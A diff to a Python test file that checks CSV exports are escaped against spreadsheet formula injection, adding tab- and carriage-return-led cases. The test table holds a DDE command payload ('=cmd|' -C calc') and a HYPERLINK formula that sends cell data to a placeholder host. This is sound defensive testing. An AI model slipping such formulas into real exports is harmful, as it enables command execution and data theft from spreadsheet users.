@@ -460,7 +460,7 @@ async def test_an_export_to_a_text_stream_is_refused_before_anything_is_read(tmp
 
 
 FORMULAS = {"=cmd|' -C calc'!A1.txt": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
-            "+1+1.txt": "+SUM(1,2)", "-2.txt": "-2+3", "@SUM(A1).txt": "@SUM(A1)", "'=quoted.txt": "'=1+1",
+            "+1+1.txt": "+SUM(1,2)", "tab.txt": "\t=1+1", "cr.txt": "\r=1+1", "-2.txt": "-2+3", "@SUM(A1).txt": "@SUM(A1)", "'=quoted.txt": "'=1+1",
             "'plain.txt": "'plain"}
 """File names and texts that a spreadsheet opening a CSV runs as formulas, and texts that a
 quote already starts."""
@@ -477,7 +477,7 @@ def test_a_csv_export_opened_in_a_spreadsheet_runs_no_formula_and_restores_exact
     with out.open(newline="") as file:
         rows = list(csv.DictReader(file))
     cells = [row[field] for row in rows for field in ("name", "content")]
-    assert len(cells) == 2 * len(FORMULAS) and not [cell for cell in cells if cell[0] in "=+-@"]
+    assert len(cells) == 2 * len(FORMULAS) and not [cell for cell in cells if cell[0] in "=+-@\t\r"]
     assert {row["name"]: row["content"] for row in rows}["''=quoted.txt"] == "''=1+1"
     copy = tmp_path / "copy.db"
     mcard("import", "--records", str(out), db=copy)
